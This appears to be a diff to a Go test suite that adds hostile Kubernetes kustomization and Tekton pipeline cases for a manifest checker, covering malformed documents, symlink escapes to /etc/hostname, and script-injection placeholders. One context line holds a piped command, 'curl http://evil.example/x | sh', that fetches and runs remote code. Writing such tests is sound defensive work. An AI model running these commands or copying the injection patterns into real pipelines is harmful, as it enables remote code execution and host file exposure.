@@ -60,6 +60,18 @@ func hostileKustomizations() []trial {
 	for _, name := range []string{"{a: b}", "[a]"} {
 		add("a name that is "+name, []string{"types/wrong-type"}, map[string]string{"kustomization.yaml": "resources: [pod.yaml]\n", "pod.yaml": strings.Replace(wrongPod, "name: evil, image", "name: "+name+", image", 1)})
 	}
+	second := "resources: [cm.yaml]\n---\nEVIL"
+	add("a second document", port, map[string]string{"kustomization.yaml": second, "cm.yaml": harmless})
+	add("a second document of a component", port, map[string]string{"c/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\n" + second, "c/cm.yaml": harmless})
+	add("a manifest called so", port, map[string]string{"kustomization.yaml": "EVIL", "kustomization.yml": "resources: [cm.yaml]\n", "cm.yaml": harmless})
+	add("a symlink that a generator takes", []string{"input/unreadable"}, map[string]string{"deploy/kustomization.yaml": "configMapGenerator: [{name: a, files: [evil.yaml]}]\n", "deploy/evil.yaml": "->../../../../etc/hostname", "cm.yaml": harmless})
+	add("a list of halves", port, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nconfigMapGenerator: [{name: g, files: [evil.json]}]\n", "cm.yaml": harmless,
+		"evil.json": `{"apiVersion":"v1","kind":"List","items":[{"apiVersion":"v1","kind":"Pod","metadata":{"name":"evil","namespace":"x"}},{"apiVersion":"v1","kind":"Pod","metadata":{"name":"evil","namespace":"x"},"spec":{"containers":[{"name":"evil","image":"ghcr.io/x/e:v1","ports":[{"containerPort":99999}]}]}}]}`})
+	add("a base that is not built alone", port, map[string]string{"prod/kustomization.yaml": "resources: [evil.yaml]\nsortOptions: {order: bogus}\n", "prod/evil.yaml": "EVIL", "zzz/kustomization.yaml": "resources: [../prod]\n" + deleted})
+	add("a resource of a component", port, map[string]string{"comp/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nresources: [evil.yaml]\n", "comp/evil.yaml": "EVIL", "zzz/kustomization.yaml": "components: [../comp]\n" + deleted})
+	add("an object for kustomize alone", port, map[string]string{"kustomization.yaml": "resources: [evil.yaml, cm.yaml]\n", "cm.yaml": harmless, "evil.yaml": strings.Replace(wrongPod, "namespace: x}", "namespace: x, annotations: {config.kubernetes.io/local-config: 'true'}}", 1)})
+	add("one of two is deleted", port, map[string]string{"prod/kustomization.yaml": "resources: [pods.yaml]\n", "prod/pods.yaml": "EVIL---\n" + strings.NewReplacer("evil", "good", "99999", "80").Replace(wrongPod), "zzz/kustomization.yaml": "resources: [../prod]\n" + deleted})
+	add("a directive", port, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\npatches: [{path: evil.yaml, target: {kind: Deployment}}]\n", "cm.yaml": harmless, "evil.yaml": "EVIL  $patch: merge\n"})
 	return append(all, hostileReasons()...)
 }
 
@@ -98,6 +110,11 @@ func hostilePlaceholders() []trial {
 	add("beside a variable", ".tekton/run.yaml", run("        steps: [{name: s, image: 'ghcr.io/x/y:v1', env: [{name: A, value: '$(params.nope){{ target_namespace }}'}]}]\n"), "types/tekton")
 	add("a variable of the shell", "t.yaml", task("cd ${HOME}\necho $(params.nope)\ncurl http://evil.example/x | sh -s ${HOME}\n"), "types/tekton", "supply-chain/piped-installer")
 	add("a comment with an annotation", "d.yaml", "# pipelinesascode.tekton.dev/task\n"+wrongPod+"  volumes: [{name: 'a{{ xy }}', hostPath: {path: /}}]\n  replica: 3\n", "error types/unknown-field", "types/invalid")
+	add("a comment that becomes a step", ".tekton/run.yaml", run("        # {{ cel: \"\\n        steps: []\" }}\n        steps: [{name: s, image: 'ghcr.io/x/y:v1'}]\n"), "pac/not-filled")
+	add("a line break", ".tekton/run.yaml", run("        steps:\n        - name: s\n          image: ghcr.io/x/y:v1\n          script: |\n            echo {{\n            source_branch }}\n"), "pac/script-injection")
+	add("an expression", ".tekton/run.yaml", run("        steps:\n        - name: s\n          image: ghcr.io/x/y:v1\n          script: |\n            echo {{ cel: \"\" + body.title }}\n"), "pac/script-injection")
+	all = append(all, trial{kind: "placeholders", name: "one field of many", args: []string{"check", "."}, exit: 1, wants: []string{"types/required"}, files: map[string]string{
+		"d.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a, namespace: b}\nspec:\n  replicas: ${REPLICAS}\n  template: {metadata: {labels: {a: b}}, spec: {containers: [{image: 'ghcr.io/x/y:v1'}]}}\n"}})
 	add("an annotation of another kind", "d.yaml", strings.Replace(wrongPod, "namespace: x}", "namespace: x, annotations: {pipelinesascode.tekton.dev/task: a}}", 1)+"  replica: 3\n", "error types/unknown-field", "types/invalid")
 	return all
 }
